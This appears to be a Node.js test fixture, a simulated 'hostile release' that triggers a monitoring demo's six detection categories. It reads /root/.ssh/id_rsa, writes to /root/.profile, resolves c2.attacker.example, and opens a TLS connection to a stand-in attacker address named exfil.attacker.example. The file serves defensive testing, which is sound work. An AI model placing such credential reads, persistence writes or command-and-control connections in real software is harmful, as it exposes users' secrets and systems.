// SPDX-License-Identifier: Apache-2.0
// The hostile release of the demo: one act of each of the six kinds. Its "attacker" is an address
// of the documentation range that the demo gives to this host's loopback interface.
const fs = require('node:fs');
const dns = require('node:dns');
const tls = require('node:tls');
const { execFileSync } = require('node:child_process');

const ATTACKER = '192.0.2.66';

function attempt(what) {
  try {
    what();
  } catch {
    // A thief goes on with what works.
  }
}

attempt(() => fs.readFileSync('/root/.ssh/id_rsa')); // fs_new_path_read, a credential
attempt(() => fs.writeFileSync('/root/.profile', 'echo persisted\n')); // fs_new_path_write
attempt(() => execFileSync('/bin/uname', ['-a'])); // proc_new_exec

const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
resolver.setServers([ATTACKER]);
resolver.resolve4('c2.attacker.example', () => {}); // net_new_dns

const socket = tls.connect({
  host: ATTACKER, // net_new_destination
  port: 443,
  servername: 'exfil.attacker.example', // net_new_https_host
  rejectUnauthorized: false,
});
socket.on('error', () => {});
setTimeout(() => process.exit(0), 1500);
